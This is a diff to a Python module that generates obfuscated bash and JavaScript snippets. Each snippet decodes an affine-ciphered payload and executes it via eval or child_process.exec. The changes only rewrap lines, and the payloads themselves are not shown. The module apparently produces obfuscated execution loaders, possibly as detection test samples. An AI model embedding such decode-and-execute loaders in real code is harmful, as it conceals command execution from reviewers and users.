@@ -45,7 +45,9 @@ def _sh_letters() -> str:
         'out=""\n'
         "for ((i=0; i<${#s}; i++)); do\n"
         '  c=$(printf %d "\'${s:i:1}")\n'
-        "  if (( c >= 97 && c <= 122 )); then c=$(( (19 * (c - 97 - 4) % 26 + 26) % 26 + 97 )); fi\n"
+        "  if (( c >= 97 && c <= 122 )); then\n"
+        "    c=$(( (19 * (c - 97 - 4) % 26 + 26) % 26 + 97 ))\n"
+        "  fi\n"
         '  out+=$(printf "\\\\x$(printf %x $c)")\n'
         "done\n"
         'eval "$out"\n'
@@ -75,7 +77,8 @@ def _js_bytes() -> str:
     data = base64.b64encode(affine_bytes(PAYLOADS[0].encode(), 13, 101)).decode()
     return (
         f'const d = Buffer.from("{data}", "base64");\n'
-        "const out = Array.from(d, (x) => String.fromCharCode(((x - 101) * 197) & 0xff)).join('');\n"
+        "const out = Array.from(d, (x) =>\n"
+        "  String.fromCharCode(((x - 101) * 197) & 0xff)).join('');\n"
         "require('child_process').exec(out);\n"
     )
 
